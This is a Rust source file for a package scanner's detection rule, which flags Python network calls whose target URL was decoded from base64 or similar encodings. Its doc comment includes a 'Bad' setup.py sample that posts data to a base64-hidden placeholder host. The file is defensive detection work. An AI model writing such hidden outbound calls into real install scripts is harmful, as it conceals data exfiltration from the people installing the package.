//! ## What it detects
//!
//! A network call whose address was decoded from base64, hexadecimal, character codes or the like.
//!
//! ## Why it is bad
//!
//! Nobody hides an address that may be known.
//!
//! ## Innocent lookalikes
//!
//! Data that is decoded and then sent to a plain address does not count.
//!
//! ## Bad
//!
//! ```python setup.py
//! import base64, requests
//! requests.post(base64.b64decode('aHR0cDovL3guZXhhbXBsZS5pbnZhbGlkL2E=').decode(), data='x')
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import base64, requests
//! requests.post('http://x.example.invalid', data=base64.b64decode('aGVsbG8='))
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import urllib.request
//! for number in range(0, 33):
//!     urllib.request.urlopen(f'http://localhost.example.invalid/test{chr(number)}/')
//! ```

use fondaco_python::{Api, Encoder, Taint, Value};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("decoded-address"),
    title: "hides whom it talks to",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Obfuscation),
    weight: 1.5,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls() {
        let talks = matches!(call.api, Some(Api::NetworkFetch | Api::NetworkSend | Api::Socket));
        let address = call.kwargs.iter().find(|(key, _)| key == "url").map(|(_, value)| value).or(call.args.first());
        let second = call.args.get(1).filter(|_| call.callee.ends_with(".request"));
        if talks && address.into_iter().chain(second).any(|value| is_decoded_address(value, &unit.text)) {
            // Hidden is hidden, whichever way the call is reached.
            hits.line(unit, call.line, format!("{} with an address that was hidden", call.callee));
        }
    }
}

/// The bytes of an address that may be decoded without hiding it.
const MAX_ODD: usize = 2;

/// Whether an address was decoded that the source doesn't say: a `chr` within its path hides nothing.
fn is_decoded_address(value: &Value, source: &str) -> bool {
    let items = value.as_list().unwrap_or_default();
    let is_address = |text: &str| {
        let text = text.trim();
        let rest = text.strip_prefix("http:").or_else(|| text.strip_prefix("https:"));
        match rest.filter(|rest| rest.starts_with("//")) {
            Some(rest) => unsaid(rest, source) > MAX_ODD,
            None => text.parse::<std::net::Ipv4Addr>().is_ok(),
        }
    };
    let is_hidden = |v: &Value| v.taint.has(Taint::DECODED) && !v.taint.has(Taint::NETWORK) && v.encoders().iter().any(|e| *e != Encoder::Escapes);
    // `Request(address, data)`.
    let is_made = value.name.as_deref().is_some_and(|name| name.ends_with(".Request()"));
    if is_made && is_hidden(value) && value.fragments().iter().any(|text| is_address(text)) {
        return true;
    }
    items.iter().chain([value]).any(|v| {
        let whole = v.as_bytes().and_then(|bytes| std::str::from_utf8(bytes).ok());
        is_hidden(v) && whole.is_some_and(is_address)
    })
}

/// The bytes of a text between what the source says of its beginning and of its end.
fn unsaid(text: &str, source: &str) -> usize {
    let ends: Vec<usize> = text.char_indices().map(|(at, c)| at + c.len_utf8()).collect();
    let said = ends.partition_point(|end| source.contains(&text[..*end]));
    let (_, rest) = text.split_at(said.checked_sub(1).map_or(0, |last| ends[last]));
    let starts: Vec<usize> = rest.char_indices().map(|(at, _)| at).collect();
    starts.partition_point(|start| !source.contains(&rest[*start..]))
}
